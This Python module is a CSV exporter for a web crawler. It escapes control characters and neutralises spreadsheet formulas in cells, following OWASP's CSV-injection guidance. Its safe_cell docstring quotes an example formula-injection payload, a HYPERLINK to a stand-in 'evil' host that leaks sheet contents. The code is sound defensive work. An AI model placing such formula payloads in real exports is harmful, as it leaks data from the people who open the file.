"""CSV: the fixed columns (rqcrawl.frontier.records.FIELDS), then the user's fields spread over
`fields.NAME` columns in name order, list and object values written as JSON; `content` is
left out (JSON lines carry it). A cell that a spreadsheet would take for a formula (a page
title `=HYPERLINK(...)`) is neutralised unless the export asks for raw cells; control
characters (ESC, BEL, C1, bidirectional overrides) are escaped as `\\xNN` / `\\uNNNN` in
every cell, raw or not (rqcrawl.untrusted.printable_cell), so that no page steers the
terminal or the spreadsheet that shows the file.

A file's columns are fixed by its header: by the names an export reads first, else by the
first batch written to it (a file appended to keeps its header). A later record's field
outside them goes to the last column, `fields`, as one JSON object, so that no value is lost.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable

from rqcrawl.frontier.records import FIELDS
from rqcrawl.ops.exporters.base import Exporter
from rqcrawl.untrusted import inert_json, printable_cell

OTHERS = "fields"  # the column of user fields outside a file's header


class CsvExporter(Exporter):
    extension = ".csv"
    wants_field_names = True

    writer: csv.DictWriter | None = None

    def write(self, records: Iterable[dict]) -> int:
        records = list(records)
        if self.writer is None:
            self._start(records)
        for record in records:
            self.writer.writerow({k: self._cell(v) for k, v in self._row(record).items()})
        return len(records)

    def _cell(self, value: object) -> object:
        """A cell without control characters, neutralised unless raw."""
        value = printable_cell(value) if isinstance(value, str) else value
        return value if self.raw_csv else safe_cell(value)

    def _start(self, first: list[dict]) -> None:
        """The header: the file's own when appending (its `a+` stream is read from the
        start), else from the known names or the first batch's."""
        if self.append:
            self.out.seek(0)
            self.columns = next(csv.reader(self.out))
            self.out.seek(0, 2)
            self.writer = csv.DictWriter(self.out, fieldnames=self.columns, extrasaction="ignore")
            return
        names = self.field_names
        if names is None:
            names = sorted({name for r in first for name in r.get("fields") or {}})
        others = [OTHERS] if self.field_names is None else []  # known names leave no others
        self.columns = FIELDS + [f"fields.{name}" for name in names] + others
        self.writer = csv.DictWriter(self.out, fieldnames=self.columns, extrasaction="ignore")
        self.writer.writeheader()

    def _row(self, record: dict) -> dict:
        row = flat(record)
        others = {k[7:]: record["fields"][k[7:]] for k in row if k.startswith("fields.")}
        others = {k: v for k, v in others.items() if f"fields.{k}" not in self.columns}
        if others:
            row[OTHERS] = inert_json(others)
        return row


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")  # OWASP's list (CSV injection, CWE-1236)


def safe_cell(value: object) -> object:
    """A text cell starting like a formula, prefixed with a single quote (OWASP's rule):
    pages are written by strangers, and a title `=HYPERLINK("http://evil/?x="&A1)` opened in
    a spreadsheet would run, leaking the sheet or starting a program."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def flat(record: dict) -> dict:
    """A record as one CSV row: its user fields as `fields.NAME` cells."""
    row = {k: v for k, v in record.items() if k != "fields"}
    for name, value in (record.get("fields") or {}).items():
        keep = value is None or isinstance(value, str)
        row[f"fields.{name}"] = value if keep else inert_json(value)
    return row
